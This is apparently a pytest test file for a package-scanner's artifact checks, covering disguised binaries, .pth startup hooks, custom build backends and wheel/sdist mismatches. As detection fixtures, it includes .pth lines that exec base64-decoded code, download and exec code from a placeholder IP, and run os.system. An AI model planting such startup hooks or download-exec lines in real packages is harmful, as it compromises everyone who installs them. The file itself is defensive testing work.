"""bot.analysis.artifact_checks: binaries, .pth hooks, build backends, wheel/sdist mismatch."""

from __future__ import annotations

import pytest

from bot.analysis.artifact_checks import (
    artifact_mismatch,
    build_backend_findings,
    fold_binary_name,
    native_code_findings,
    pth_findings,
    startup_module_findings,
)
from bot.analysis.types import FileRole
from bot.archive import Member
from bot.model import AlertType, Finding, Severity

ELF = b"\x7fELF\x02\x01\x01" + bytes(57)
PE = b"MZ\x90\x00\x03\x00\x00\x00" + bytes(56)
MACHO = b"\xcf\xfa\xed\xfe" + bytes(60)


def member(path: str, data: bytes) -> Member:
    return Member(path=path, size=len(data), head=data[:64], data=data)


@pytest.mark.parametrize(("name", "folded"), [
    ("pkg/_foo.cpython-311-x86_64-linux-gnu.so", "_foo.so"),
    ("pkg/_foo.cpython-312-darwin.so", "_foo.so"),
    ("pkg/_foo.abi3.so", "_foo.so"),
    ("pkg/_foo.cp311-win_amd64.pyd", "_foo.pyd"),
    ("numpy.libs/libgfortran-040039e1.so.5.0.0", "libgfortran.so"),
    ("numpy.libs/libopenblas64_p-r0-0cf96a72.3.23.dev.so", "libopenblas64_p-r0.so"),
    ("pkg.libs/msvcp140-0f2ea95580b32bcfc81c235d5751ce78.dll", "msvcp140.dll"),
    ("lib/libssl.1.1.dylib", "libssl.dylib"),
    ("bin/tool", "tool"),
])
def test_versioned_binaries_fold_to_the_same_name(name: str, folded: str) -> None:
    assert fold_binary_name(name) == folded


def test_native_code_by_extension_and_by_magic() -> None:
    members = [
        member("pkg/_speed.cpython-311-x86_64-linux-gnu.so", ELF),
        member("pkg/helper.dll", PE),
        member("pkg/bin/runner", MACHO),
        member("pkg/data.txt", ELF),  # disguised
        member("pkg/readme.txt", b"MZ is a text that starts like this, no NULs"),
        member("pkg/Main.class", b"\xca\xfe\xba\xbe" + bytes(20)),
        member("pkg/core.py", b"import os\n"),
    ]
    found = native_code_findings(members, artifact="demo.whl", roles={})
    assert [(f.api, f.normalized, f.severity, f.file) for f in found] == [
        ("binary:.so", "_speed.so", Severity.MEDIUM,
         "pkg/_speed.cpython-311-x86_64-linux-gnu.so"),
        ("binary:.dll", "helper.dll", Severity.MEDIUM, "pkg/helper.dll"),
        ("binary:executable", "runner", Severity.MEDIUM, "pkg/bin/runner"),
        ("binary:disguised", "data.txt", Severity.HIGH, "pkg/data.txt"),
    ]
    assert found[3] == Finding(
        type=AlertType.NATIVE_CODE, severity=Severity.HIGH, file="pkg/data.txt", line=None,
        evidence="pkg/data.txt (64 bytes)",
        reason="A native executable or library is hidden under a non-binary file name.",
        api="binary:disguised", normalized="data.txt", artifact="demo.whl")


def test_native_code_in_not_installed_files_is_marked() -> None:
    found = native_code_findings([member("tests/fixture.so", ELF)], artifact="d.tar.gz",
                                 roles={"tests/fixture.so": FileRole.NOT_INSTALLED})
    assert found[0].not_installed


PTH = (
    "# a comment\n"
    "/opt/extra/path\n"
    "import os; os.environ.setdefault('X', '1')\n"
    "import\tbase64, sys; exec(base64.b64decode('cHJpbnQoMSk='))\n"
    "  import indented_is_a_path_line\n"
)


def test_pth_executable_lines_are_reported() -> None:
    found = pth_findings([member("evil.pth", PTH.encode())], artifact="demo.whl",
                         roles={"evil.pth": FileRole.INSTALL_TIME})
    assert [(f.type, f.severity, f.line, f.api) for f in found] == [
        (AlertType.PTH_HOOK, Severity.HIGH, 3, "pth:import"),
        (AlertType.PTH_HOOK, Severity.HIGH, 4, "pth:import"),
        (AlertType.PERSISTENCE, Severity.CRITICAL, 4, "pth:persistence"),
        (AlertType.OBFUSCATED_EXEC, Severity.CRITICAL, 4, "builtins.exec"),
    ]
    assert found[0] == Finding(
        type=AlertType.PTH_HOOK, severity=Severity.HIGH, file="evil.pth", line=3,
        evidence="import os; os.environ.setdefault('X', '1')",
        reason="This .pth line runs as Python code every time the interpreter starts.",
        api="pth:import", normalized="evil.pth:import os; os.environ.setdefault('…', '…')",
        artifact="demo.whl")
    assert found[2].reason == (
        "This .pth line (evil.pth:4) runs at every interpreter start and does more than set up "
        "imports: Runs hidden code: exec of data decoded with base64.b64decode.")
    assert found[2].normalized == "evil.pth:import base64, sys; exec(base64.b64decode('…'))"


@pytest.mark.parametrize("line", [
    # setuptools' distutils-precedence.pth
    "import os; var = 'SETUPTOOLS_USE_DISTUTILS'; enabled = os.environ.get(var, 'local') == "
    "'local'; enabled and __import__('_distutils_hack').add_shim(); ",
    "import coverage; coverage.process_startup()",  # coverage's a1_coverage.pth
    # pytest-cov's .pth: exec of a constant string that only imports and calls
    "import os, sys;exec('if \\'COV_CORE_SOURCE\\' in os.environ:\\n try:\\n  from "
    "pytest_cov.embed import init\\n  init()\\n except Exception as exc:\\n  "
    "sys.stderr.write(str(exc))\\n')",
    "import __editable___demo_1_0_finder; __editable___demo_1_0_finder.install()",
    "import _virtualenv",
])
def test_pth_lines_of_popular_tools_are_only_hooks(line: str) -> None:
    found = pth_findings([member("x.pth", (line + "\n").encode())], artifact="x.whl",
                         roles={"x.pth": FileRole.INSTALL_TIME})
    assert [f.type for f in found] == [AlertType.PTH_HOOK]


@pytest.mark.parametrize(("line", "threat"), [
    ("import subprocess; subprocess.Popen(['python', '/tmp/x.py'])", None),
    ("import urllib.request as u; exec(u.urlopen('http://203.0.113.9/p').read())",
     AlertType.DOWNLOAD_EXEC),
    ("import os; exec('import os\\nos.system(\"id\")')", None),
])
def test_pth_lines_that_run_more_are_persistence(line: str, threat: AlertType | None) -> None:
    found = pth_findings([member("x.pth", ("# c\n" + line + "\n").encode())],
                         artifact="x.whl", roles={"x.pth": FileRole.INSTALL_TIME})
    types = [f.type for f in found]
    assert types[:2] == [AlertType.PTH_HOOK, AlertType.PERSISTENCE]
    assert all(f.line == 2 for f in found)
    if threat is not None:
        assert threat in types
        assert "x.pth:2" in found[-1].reason


def test_pth_path_lines_and_inert_pth_files_are_fine() -> None:
    assert pth_findings([member("paths.pth", b"/a\n../b\n")], artifact="x",
                        roles={"paths.pth": FileRole.INSTALL_TIME}) == ()
    assert pth_findings([member("pkg/x.pth", b"import os\n")], artifact="x",
                        roles={"pkg/x.pth": FileRole.MODULE}) == ()


def test_in_tree_build_backend_is_an_install_script() -> None:
    text = ('[build-system]\nrequires = []\nbuild-backend = "backend"\n'
            'backend-path = ["_build"]\n')
    assert build_backend_findings(text, artifact="d.tar.gz") == (Finding(
        type=AlertType.INSTALL_SCRIPT, severity=Severity.HIGH, file="pyproject.toml", line=4,
        evidence='backend-path = ["_build"]',
        reason="The build backend backend is shipped inside the sdist and runs its own code "
               "on install.",
        api="build-backend:in-tree", normalized="backend", artifact="d.tar.gz"),)


def test_unknown_build_backend_is_an_install_script() -> None:
    text = '[build-system]\nrequires = ["evilbuild"]\nbuild-backend = "evilbuild.api"\n'
    found = build_backend_findings(text, artifact="d.tar.gz")
    assert [(f.api, f.normalized, f.line, f.evidence, f.severity) for f in found] == [
        ("build-backend:custom", "evilbuild.api", 3, 'build-backend = "evilbuild.api"',
         Severity.MEDIUM)]


@pytest.mark.parametrize("backend", [
    "setuptools.build_meta", "setuptools.build_meta:__legacy__", "hatchling.build",
    "flit_core.buildapi", "poetry.core.masonry.api", "pdm.backend", "maturin",
    "scikit_build_core.build", "mesonpy",
])
def test_well_known_backends_are_fine(backend: str) -> None:
    text = f'[build-system]\nrequires = []\nbuild-backend = "{backend}"\n'
    assert build_backend_findings(text, artifact="d.tar.gz") == ()


@pytest.mark.parametrize("text", ["[build-system", "[project]\nname = 'x'\n",
                                  "[build-system]\nrequires = []\n",
                                  "a = " + "[" * 50_000 + "]" * 50_000])
def test_pyproject_without_backend_or_invalid_is_fine(text: str) -> None:
    assert build_backend_findings(text, artifact="d.tar.gz") == ()


def test_startup_modules_in_a_wheel() -> None:
    found = startup_module_findings(
        ["demo/__init__.py", "sitecustomize.py", "demo-1.0.data/purelib/usercustomize.py"],
        artifact="demo.whl")
    assert [(f.api, f.file, f.severity) for f in found] == [
        ("startup-module:sitecustomize", "sitecustomize.py", Severity.HIGH),
        ("startup-module:usercustomize", "demo-1.0.data/purelib/usercustomize.py",
         Severity.HIGH),
    ]


SDIST = ["PKG-INFO", "setup.py", "src/demo/__init__.py", "src/demo/_speed.pyx",
         "demo.pth", "tests/test_demo.py"]


def test_wheel_matching_its_sdist_has_no_mismatch() -> None:
    wheel = ["demo/__init__.py", "_speed.cpython-311-x86_64-linux-gnu.so", "demo.pth",
             "demo-1.0.dist-info/RECORD", "demo-1.0.data/scripts/demo",
             "demo.libs/libgfortran-040039e1.so.5.0.0",
             "30fcd23745efe32ce681__mypyc.cpython-311-x86_64-linux-gnu.so",
             "demo-1.0-py3.11-nspkg.pth"]
    assert artifact_mismatch(SDIST, wheel, wheel_artifact="demo.whl") == ()


def test_wheel_only_packages_and_pth_files_are_mismatches() -> None:
    wheel = ["demo/__init__.py", "stealer/__init__.py", "stealer/core.py", "hook.pth",
             "demo-1.0.data/purelib/other.pth", "demo-1.0.dist-info/RECORD"]
    found = artifact_mismatch(SDIST, wheel, wheel_artifact="demo.whl")
    assert [(f.api, f.file, f.severity) for f in found] == [
        ("wheel-only:stealer", "stealer/__init__.py", Severity.MEDIUM),
        ("wheel-only-pth:hook.pth", "hook.pth", Severity.HIGH),
        ("wheel-only-pth:other.pth", "demo-1.0.data/purelib/other.pth", Severity.HIGH),
    ]
    assert found[0].reason == ("The wheel installs the top-level name stealer, which the sdist "
                               "has no source for.")
    assert {f.type for f in found} == {AlertType.ARTIFACT_MISMATCH}
    assert {f.artifact for f in found} == {"demo.whl"}
